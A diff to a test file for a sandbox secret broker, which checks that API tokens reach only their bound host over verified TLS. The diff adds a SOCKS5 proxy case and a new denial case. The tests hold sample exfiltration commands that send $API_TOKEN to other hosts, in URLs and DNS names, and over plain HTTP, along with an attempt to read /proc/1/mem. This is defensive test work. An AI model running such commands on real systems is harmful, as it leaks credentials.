@@ -223,7 +223,7 @@ def assert_never_leaked(up, r, audit_path):
         "placeholders only inside; the value in the supervisor's vault (MADV_DONTDUMP|MADV_WIPEONFORK), swapped "
         "in on the way out; a response holding a value is cut before it reaches the sandbox")
 def test_bound_secret_reaches_its_host_only_over_verified_tls(ws, up):
-    """curl, urllib and requests through CONNECT; the upstream gets the
+    """curl (CONNECT and SOCKS5), urllib and requests; the upstream gets the
     value, the sandbox only ever the placeholder (environment, files,
     pid 1's memory, the answer of an echoing upstream)."""
     brig = ws
@@ -231,6 +231,7 @@ def test_bound_secret_reaches_its_host_only_over_verified_tls(ws, up):
     script = r'''
 echo "PH=$API_TOKEN"
 curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test/whoami
+curl -sS --proxy socks5h://127.0.0.1:1080 -H "Authorization: Bearer $API_TOKEN" https://api.test/whoami
 python3 -c '
 import os, urllib.request
 req = urllib.request.Request("https://api.test/whoami", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
@@ -249,13 +250,13 @@ head -c 100000 /proc/1/mem >/dev/null 2>&1; echo mem1=$?
 '''
     r, ev, path = audited(brig, script, *up.args())
     ph = placeholder_of(r.stdout)
-    assert "hi\nurllib hi\nrequests hi\nrequests hi\n" in r.stdout, r
+    assert "hi\nhi\nurllib hi\nrequests hi\nrequests hi\n" in r.stdout, r
     assert "environ1=1" in r.stdout and "mem1=1" in r.stdout, r
     assert "BEGIN CERTIFICATE" in r.stdout and f"API_TOKEN={ph}" in r.stdout, r
     # the upstream echoed the value back: cut before it reached the sandbox
     assert "echo_rc=18" in r.stdout, r   # curl: the body ended short
     got = [q for q in up.seen(mark) if q["path"] == "/whoami"]
-    assert len(got) == 4 and all(q["headers"]["Authorization"] == f"Bearer {up.value}" for q in got), got
+    assert len(got) == 5 and all(q["headers"]["Authorization"] == f"Bearer {up.value}" for q in got), got
     assert not any(ph in json.dumps(q) for q in up.seen(mark)), "the placeholder reached the upstream"
     cut = [e for e in ev if e.get("phase") == "response" and e.get("secret") == "API_TOKEN"]
     assert cut, ev
@@ -282,11 +283,12 @@ curl -sS -i -H "X-Other: $API_TOKEN" https://api.test/hdr | grep -i '^x-brig-den
 curl -sS -i -H "$A" http://api.test/plain-bound | grep -i '^x-brig-deny'
 curl -sS -o /dev/null "https://$API_TOKEN.api.test/"; echo dns_rc=$?
 curl -sS -i -L --location-trusted -H "$A" https://api.test/redirect | grep -i '^x-brig-deny'
+curl -sS -i --data "k=$API_TOKEN" http://other.test/plain-body | grep -i '^x-brig-deny'
 '''
     r, ev, path = audited(brig, script, *up.args("--http-rule", "other.test * /**"))
     lines = r.stdout.splitlines()
     deny = [l for l in lines if l.lower().startswith("x-brig-deny")]
-    assert len(deny) == 7, r
+    assert len(deny) == 8, r
     assert "other.test:80" in deny[0] and "secret API_TOKEN over plain http" in deny[0], deny
     assert "secret API_TOKEN to a host it is not bound to" in deny[1], deny
     assert "secret API_TOKEN in the URL" in deny[2], deny
@@ -295,8 +297,9 @@ curl -sS -i -L --location-trusted -H "$A" https://api.test/redirect | grep -i '^
     assert "secret API_TOKEN over plain http" in deny[5], deny
     assert "dns_rc=56" in r.stdout, r
     assert "other.test:80" in deny[6], deny   # the redirect's second hop
+    assert "secret API_TOKEN in a plain-http request body" in deny[7], deny
     exfil = [e for e in ev if e.get("event") == "net" and e["decision"] == "deny" and "API_TOKEN" in e.get("reason", "")]
-    assert len(exfil) == 8, ev
+    assert len(exfil) == 9, ev
     paths = [q["path"] for q in up.seen(mark)]
     assert paths == ["/redirect"], paths   # the one allowed request; nothing carrying the placeholder
     assert_never_leaked(up, r, path)
